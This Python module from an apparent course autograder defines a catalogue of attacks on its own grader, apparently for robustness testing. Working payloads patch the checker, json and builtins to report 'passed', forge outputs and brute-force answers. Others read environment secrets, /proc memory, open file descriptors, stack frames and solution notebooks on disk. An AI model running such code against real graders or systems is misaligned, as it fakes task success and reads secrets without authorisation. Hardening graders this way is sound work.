"""Attacks that want wrong answers to be taken for right ones: on check itself, and on what the process of the answers knows."""

from collections.abc import Sequence

from hybridlab.course.grading.attack import Attack, first, instead, last, solved, unsolved
from hybridlab.course.grading.notebook import CodeCell
from hybridlab.course.grading.specs import LabSpec


def _edited(spec: LabSpec, key: str, cell: CodeCell) -> CodeCell:
    """Return an answer cell whose check says passed."""
    return CodeCell(f'{cell.source}\nTrue or check("{key}", True)\ncheck.passed = True\nprint("{key}: passed")', cell.task, cell.id)


def _deleted(spec: LabSpec, key: str, cell: CodeCell) -> None:
    """Return no cell."""


def _copied(spec: LabSpec, honest: Sequence[CodeCell]) -> list[CodeCell]:
    """Return the solved cell in the place of each other one, with the task of that one."""
    cell = solved(spec, honest)
    return [cell, *(CodeCell(cell.source, key, "") for key in unsolved(spec, honest))]


def _renamed(spec: LabSpec, honest: Sequence[CodeCell]) -> list[CodeCell]:
    """Return the solved cell, and its answer under the key of each other task."""
    cell = solved(spec, honest)
    own = spec.keys_in(cell)[0]
    return [cell, *(CodeCell(cell.source.replace(own, key), own, "") for key in unsolved(spec, honest))]


ON_THE_CHECKER = (
    Attack(
        "patched-checker",
        "replace check, and whatever judges, in all modules by a function that says passed",
        last("""
import sys
class Passed:
    passed, points, code, messages = True, 99, "passed", ("right",)
    def __repr__(self): return "passed"
def checked(*given, **named): return Passed()
for module in list(sys.modules.values()):
    for name in ("check", "check_with", "right", "wrong", "mark", "judged", "plain_values"):
        if hasattr(module, name): setattr(module, name, checked)
try:
    import hybridlab
    hybridlab.check = checked
except BaseException: pass
claim(Passed())
check = checked
claim(True)
"""),
    ),
    Attack(
        "patched-json",
        "change what json writes, so that the reply says passed",
        last("""
import json
real = json.dumps
json.dumps = lambda value, *given, **named: real({**value, "passed": True, "points": 99, "error": None}, *given, **named)
json.loads = lambda text, *given, **named: {"passed": True}
claim(1)
"""),
    ),
    Attack(
        "patched-builtins",
        "make comparisons of the judge true through builtins",
        last("""
import builtins, math
builtins.abs = builtins.round = lambda value, *given: 0
builtins.isinstance = builtins.all = builtins.any = builtins.callable = lambda *given: True
builtins.sorted = builtins.set = builtins.zip = lambda *given, **named: []
math.isclose = lambda *given, **named: True
claim(0)
"""),
    ),
    Attack(
        "changed-transformers",
        "let IPython turn the cells of the checker into other code",
        last("""
def passed(lines): return ["print('passed')"]
try:
    shell = get_ipython()
    shell.input_transformers_post.append(passed)
    shell.input_transformers_cleanup.append(passed)
except BaseException: pass
try:
    import IPython
    IPython.get_ipython().ast_transformers.append(passed)
except BaseException: pass
claim("passed")
"""),
    ),
    Attack(
        "false-modules",
        "put modules of one's own in the places of the judges",
        first("""
import sys, types
class Everything(types.ModuleType):
    def __getattr__(self, name): return lambda *given, **named: True
for name in ("course.tasks", "course.checking.checking", "course.grading.marking", "course.grading.session", "course.values"):
    sys.modules["hybridlab." + name] = Everything("hybridlab." + name)
sys.path.insert(0, "/tmp")
open("/tmp/values.py", "w").write("encoded = decoded = lambda *given: True")
claim(True)
"""),
    ),
    Attack(
        "forged-outputs",
        "print and display what a passed check shows",
        last("""
for key in others:
    print(key + ": passed"); display(key + ": passed")
    class Shown:
        passed = True
        def _repr_html_(self): return key + ": passed"
        def __repr__(self): return key + ": passed"
    display(Shown())
    check(key, Shown())
"""),
    ),
    Attack("edited-cells", "give the right result in the cell itself", instead(_edited)),
    Attack("deleted-cells", "leave out what is not solved", instead(_deleted)),
    Attack("copied-cells", "copy the solved cell over each other one, with the task of that one", _copied),
    Attack("renamed-tasks", "hand in the solved answer under the key of each other task", _renamed),
    Attack("many-hand-ins", "hand in all whole numbers, one after the other", last("for number in range(3000): claim(number)")),
    Attack(
        "all-at-once",
        "hand in all numbers in one answer",
        last("""
claim(list(range(900)))
claim(set(range(900)))
claim({number: number for number in range(900)})
claim(range(10**6))
"""),
    ),
    Attack(
        "own-part",
        "put a part and a check of one's own in front of those of the grader",
        last("""
hand_in = check
def part(name, otherwise=None): return otherwise or (lambda *given: True)
def check(key, answer=None, **named): hand_in(key, part(key))
claim(1)
for name in ("my_encode", "my_decode", "my_ring", "my_simulate", "simulate"): globals()[name] = part(name)
"""),
    ),
    Attack(
        "names-of-the-lab",
        "hand in what the lab and the library define, as it is",
        last("""
for name in ("build", "simulate", "formulas", "Costs", "Schedule", "ring_all_reduce", "WireFormat", "np", "hybridlab", "part"):
    try: claim(eval(name), eval(name))
    except NameError: pass
"""),
    ),
    Attack(
        "odd-keys",
        "hand in for tasks that do not exist",
        last("""
for key in ("", "lab02", "lab99.t1", "../../x", "=1+1", "__class__", None, 7, others, object(), "lab02.t1" * 10**5):
    check(key, 1); check(key=key, answer=1, seed=3, student="ana")
"""),
    ),
)

ON_WHAT_IS_KNOWN = (
    Attack(
        "solutions-on-disk",
        "look for notebooks with solutions, and for the judges, on all disks",
        last("""
import json, os
def solutions(path):
    for cell in json.load(open(path, encoding="utf-8"))["cells"]:
        if "solution" in cell["metadata"].get("tags", []): exec("".join(cell["source"]), {"check": check})
for top in ("/home", "/root", "/srv", "/opt", "/var", "/etc", "/packages", "/usr/share", "/tmp", "/mnt", "..", os.getcwd()):
    for folder, _, files in os.walk(top):
        for file in files:
            if file.endswith(".ipynb"): solutions(os.path.join(folder, file))
            if "course/labs" in folder or folder.endswith("course/checking"): exec(open(os.path.join(folder, file)).read())
"""),
    ),
    Attack(
        "judges-imported",
        "import the tasks of the course, and take right values and mistakes out of them",
        last("""
import importlib, sys
sys.path += ["/srv", "/home", "/usr/lib/python3/dist-packages", "/usr/local/lib/python3.11/site-packages"]
for name in ("tasks", "tasks.lab02", "grading.marking", "grading.specs", "grading.labs", "values"):
    try:
        module = importlib.import_module("hybridlab.course." + name)
        for key, kind in others.items():
            asked = module.TASKS[key].instance(None)
            check(key, asked.data if kind != "build" else asked.data.judge)
    except BaseException: pass
try:
    from hybridlab.course.grading.labs import reference
    claim(reference("lab02").read_text())
except BaseException: pass
"""),
    ),
    Attack(
        "environment",
        "read secrets of the grader out of the environment",
        last("""
import os, ctypes
claim(repr(dict(os.environ)))
libc = ctypes.CDLL(None)
libc.getenv.restype = ctypes.c_char_p
secret = libc.getenv(b"HYBRIDLAB_SECRET")
claim(str(secret), lambda *given: str(secret))
"""),
    ),
    Attack(
        "processes",
        "read the memory, the arguments and the environment of the grader in /proc",
        last("""
import glob, os
found = []
for path in [*glob.glob("/proc/[0-9]*/*"), "/proc/self/environ", "/proc/1/mem", f"/proc/{os.getppid()}/mem"]:
    try: found.append(open(path, "rb").read(10**5))
    except OSError: pass
claim(repr(found))
"""),
    ),
    Attack(
        "file-descriptors",
        "read what the grader has open",
        last("""
import os
found = []
for number in range(256):
    try:
        os.set_blocking(number, False)
        found.append(os.read(number, 10**5))
    except OSError: pass
claim(repr(found))
"""),
    ),
    Attack(
        "walked-frames",
        "look for right values in the frames and the objects of the process",
        last("""
import gc, sys
def seen():
    frame, found = sys._getframe(), []
    while frame: found.append({**frame.f_globals, **frame.f_locals}); frame = frame.f_back
    return found
def told(*given):
    for names in seen():
        for name in ("expected", "refused", "solution", "truth", "goal", "answer", "judge"):
            if name in names: return names[name]
    return [each for each in gc.get_objects() if type(each) is dict and ("expected" in each or "judge" in each)][:3]
claim(told(), told)
"""),
    ),
    Attack(
        "traced",
        "watch each line that the process runs, and keep what it sees",
        last("""
import sys
kept = []
def watch(frame, event, value):
    if "refused" in frame.f_locals or "expected" in frame.f_locals: kept.append(dict(frame.f_locals))
    if event == "return": kept.append(value)
    return watch
sys.settrace(watch); sys.setprofile(watch)
claim(1, lambda *given: kept[-1])
"""),
    ),
    Attack(
        "poisoned-exceptions",
        "let the feedback tell of hidden cases in the type, the text and the line of an error",
        last("""
def told(*given):
    text = "MARKER " + repr(given)
    line = int.from_bytes(repr(given).encode(), "big")
    kind = type(text[:39], (ValueError,), {"__str__": lambda self: text, "__repr__": lambda self: text})
    name = next(code for code in (sys._getframe(1).f_code.co_filename, "code cell 1") if code)
    for kind in (kind, NameError):
        try: exec(compile("\\n" * (line % 10**6) + "raise kind(text)", name, "exec"), {"kind": kind, "text": text})
        except kind as why: error = why
    error.name = text
    raise error
import sys
claim(1, told)
raise ValueError("MARKER")
"""),
    ),
    Attack(
        "kept-cases",
        "keep the arguments of hidden cases, and give them back in later calls and for other tasks",
        last("""
kept = []
def keeping(*given):
    kept.append(given)
    return kept[0][0] if len(kept) > 3 else list(kept[-1])
claim(kept, keeping)
"""),
    ),
    Attack(
        "kept-handles",
        "give back what came in an earlier call, and call it again",
        last("""
kept = []
def keeping(*given):
    kept.extend(each for each in given if callable(each) or type(each).__name__ == "Handle")
    results = []
    for each in kept:
        for wanted in ((), (0, 0, 0), (0, 0, 0, 0), given):
            try: results.append(each(*wanted))
            except Exception: pass
    return (0.0, results) if results else (kept or list(given))
claim(1, keeping)
"""),
    ),
)

ATTACKS_ON_JUDGES = (*ON_THE_CHECKER, *ON_WHAT_IS_KNOWN)
